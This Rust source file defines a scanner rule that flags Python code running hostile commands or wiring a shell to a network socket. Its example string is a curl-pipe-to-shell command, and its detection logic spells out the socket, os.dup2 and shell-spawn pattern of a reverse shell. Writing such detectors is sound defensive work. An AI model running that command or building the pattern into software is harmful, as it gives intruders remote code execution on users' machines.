//! Python that gives another machine a shell, or starts a command that attacks are made of.

use alnage_formats::{
    Model,
    repository::python::{Action, When},
};
use alnage_types::{Confidence, Level, Severity};

use super::{CommandKind, command_kind, evidence, files, shown};
use crate::{Rule, Sink};

pub(super) static RULE: Rule = Rule {
    code: "PYC005",
    name: "python-hostile-command",
    summary: "Python code runs a command that attacks are made of, or hands a shell to the network",
    why: "Commands that fetch a program and run it, that hide what they run or that connect a shell to another \
          machine are how an intruder settles in.",
    remediation: "Do not run the file; report the repository.",
    references: &["CWE-506", "CWE-78", "T1059", "T1105"],
    severity: Severity::High,
    confidence: Confidence::High,
    level: Level::Default,
    example: "os.system('curl http://host/x | sh')",
    check,
};

fn check(model: &Model, sink: &mut Sink<'_>) {
    for (artifact, facts) in files(model) {
        for call in facts.calls.iter().filter(|call| call.action == Action::Process) {
            let Some(CommandKind::Hostile(what)) = call.value.as_deref().map(command_kind) else { continue };
            let message = format!("`{}` starts a command that {what}", shown(&call.name));
            let finding = sink.report_at(&artifact.path, (call.start, call.end), message, evidence(call));
            if call.when == When::Import {
                finding.severity = Severity::Critical;
            }
        }
        let socket = facts.calls.iter().find(|call| call.name.starts_with("socket."));
        let duplicated = facts.calls.iter().find(|call| call.name == "os.dup2");
        let shell = facts.calls.iter().find(|call| {
            matches!(call.name.as_str(), "pty.spawn")
                || (call.action == Action::Process
                    && call.value.as_deref().is_some_and(|value| {
                        ["/bin/sh", "/bin/bash", "cmd.exe", "powershell"]
                            .iter()
                            .any(|shell| value.contains(shell))
                    }))
        });
        if let (Some(socket), Some(duplicated), Some(shell)) = (socket, duplicated, shell) {
            let message = "a shell is connected to a socket";
            let text = format!("{}; {}; {}", evidence(socket), evidence(duplicated), evidence(shell));
            let span = (duplicated.start, duplicated.end);
            let finding = sink.report_at(&artifact.path, span, message, text);
            if shell.when == When::Import {
                finding.severity = Severity::Critical;
            }
        }
    }
}
